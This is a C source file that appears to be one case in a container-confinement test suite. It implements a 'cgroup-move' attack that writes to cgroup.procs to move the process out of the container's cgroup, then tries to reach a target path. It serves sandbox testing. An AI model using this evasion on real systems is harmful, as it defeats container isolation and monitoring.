/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

/* The attacker moves itself out of the container's cgroup and runs a fresh program there. */
static void inside(void *arg)
{
	const char *procs = arg;
	int fd = open(procs, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, "0", 1) < 0) {
		step_failed("write to cgroup.procs");
		return;
	}
	reach_path(target);
}

static void run(void)
{
	if (mkdir("/sys/fs/cgroup/evasion-move", 0755) < 0 && errno != EEXIST)
		step_failed("mkdir of a cgroup");
	in_child(inside, (void *)"/sys/fs/cgroup/evasion-move/cgroup.procs");
	in_child(inside, (void *)"/sys/fs/cgroup/cgroup.procs");
	rmdir("/sys/fs/cgroup/evasion-move");
}

ATTACK(.name = "cgroup-move", .goals = READ | EXEC | WRITE)
